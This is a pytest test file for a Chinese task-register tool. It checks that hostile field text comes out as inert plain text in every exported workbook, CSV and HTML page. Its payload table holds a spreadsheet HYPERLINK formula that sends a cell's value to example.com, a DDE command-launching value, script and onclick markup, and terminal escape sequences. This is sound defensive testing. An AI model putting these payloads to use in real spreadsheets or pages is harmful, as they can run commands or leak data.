"""Whatever a unit writes into whatever field leaves the office as plain text, in every format."""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.cli.conftest import PLAN, Wuye
from tests.cli.superior import superior_workbook
from tests.unit.render.test_dashboard import Browser

HOSTILE = {
    "formula": '=HYPERLINK("http://example.com/?"&A1,"点这里")',
    "plus": "+1+cmd|'/c calc'!A1",
    "markup": "<script>alert(1)</script><b onclick='x'>&amp;http://example.com",
    "placeholder": "{{任务总数}}{{任务.重点任务}}",
    "control": "\x1b]0;红\x07\x1b[31m\"甲\",'乙'\n丙\u200f",
}
FIELDS = ("title", "content", "requirement", "section", "level", "remark", "lead", "responsible", "guide")
UNITS = ("lead", "responsible", "guide")


def field_text(text: str, field: str) -> str:
    """A hostile text that still says which field it stood in; some signs would part it into several units."""
    own = re.sub(r"[、，,;|/\s]", "-", text) if field in UNITS else text
    return f"{own}#{field}"


@pytest.fixture(scope="module", params=list(HOSTILE.values()), ids=list(HOSTILE))
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Wuye, str]:
    """A register with the text in every field that somebody may write into."""
    register, text = Wuye(tmp_path_factory.mktemp("hostile")), str(request.param)
    office = (f"--{name}={field_text(text, name)}" for name in ("name", "issuer", "contact"))
    register("init", *office, "--region", "银川市")
    register("import", register.file("清单.csv", PLAN), "--yes")
    register("plan", "edit", "p1", "--title", field_text(text, "plan"), "--document-number", field_text(text, "number"))
    register("task", "add", *(f"--{field}={field_text(text, field)}" for field in FIELDS), "--deadline", "2023-06-30")
    register("target", "set", "4", field_text(text, "indicator"), "--value", "9", "--unit", "个", "--by", "2023-12-31")
    said = (f"--{name}={field_text(text, name)}" for name in ("note", "problem", "next"))
    register("update", "4", "--percent", "40", "--month", "2023-10", *said)
    return register, text


def workbooks(wuye: Wuye) -> Iterator[Path]:
    """Every workbook that leaves the office."""
    folder = wuye.folder
    wuye("list", "--xlsx", folder / "清单.xlsx")
    wuye("log", "--xlsx", folder / "流水.xlsx")
    wuye("export", "register", "-o", folder / "台账.xlsx")
    wuye("circular", "draft", "2023-10", "-o", folder / "通报.xlsx")
    wuye("template", "new", "-o", folder / "起点.xlsx", "--yes")
    wuye("export", "template", folder / "起点.xlsx", "-o", folder / "填好.xlsx")
    wuye("export", "template", superior_workbook(folder / "上级.xlsx"), "-o", folder / "上报.xlsx")
    yield from (folder / f"{name}.xlsx" for name in ("清单", "流水", "台账", "通报", "填好", "上报"))


def as_kept(text: str) -> str:
    """Only control signs are taken out on the way; names of units lose spaces and get full-width brackets."""
    return re.sub(r"[\x00-\x1f\s]", "", text).translate(str.maketrans("(),:", "（），："))


def test_workbooks_hold_it_as_text(hostile: tuple[Wuye, str]) -> None:
    register, text = hostile
    for path in workbooks(register):
        cells = [cell for sheet in load_workbook(path) for row in sheet for cell in row if cell.value is not None]
        own = [cell for cell in cells if "#title" in str(cell.value)]
        assert any(as_kept(field_text(text, "title")) in as_kept(str(cell.value)) for cell in own), path.name
        assert {cell.data_type for cell in cells if "#" in str(cell.value)} == {"s"}, path.name
        assert not any(cell.hyperlink for cell in cells), path.name
        with zipfile.ZipFile(path) as archive:
            assert not any("externalLink" in name or "vba" in name for name in archive.namelist())


def test_every_field_of_a_task_arrives_in_the_register_that_is_handed_out(hostile: tuple[Wuye, str]) -> None:
    register, text = hostile
    register("export", "register", "-o", register.folder / "台账.xlsx")
    sheet = load_workbook(register.folder / "台账.xlsx")["任务台账"]
    found = as_kept("\n".join(str(cell.value) for row in sheet for cell in row))
    fields = (*FIELDS, "plan", "indicator", "note", "problem", "next")
    assert [field for field in fields if as_kept(field_text(text, field)) not in found] == []


def test_csv_holds_it_as_text_and_marks_what_would_be_calculated(hostile: tuple[Wuye, str]) -> None:
    register, text = hostile
    path = register.folder / "清单.csv"
    for words in (("list",), ("plan", "list"), ("unit", "list"), ("target", "list"), ("log",)):
        register(*words, "--csv", path)
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file, strict=True) for cell in row if "#" in cell]
        assert any(
            as_kept(field_text(text, name)) in as_kept(cell)
            for cell in cells
            for name in ("title", "plan", "lead", "indicator")
        )
        assert not any(cell.lstrip().startswith(("=", "+", "@")) for cell in cells)


def test_the_page_holds_it_as_text(hostile: tuple[Wuye, str]) -> None:
    register, text = hostile
    path = register.folder / "总览.html"
    register("export", "html", "-o", path)
    page = Browser(path.read_text(encoding="utf-8"))
    assert not {tag for tag, _ in page.elements} & {"script", "a", "iframe", "img"}
    assert not any(name.startswith("on") or name in {"href", "src"} for _, found in page.elements for name in found)
    words = as_kept("\n".join(page.texts))
    for field in ("name", "title", "lead", "problem", "plan", "number"):
        assert as_kept(field_text(text, field)) in words, field
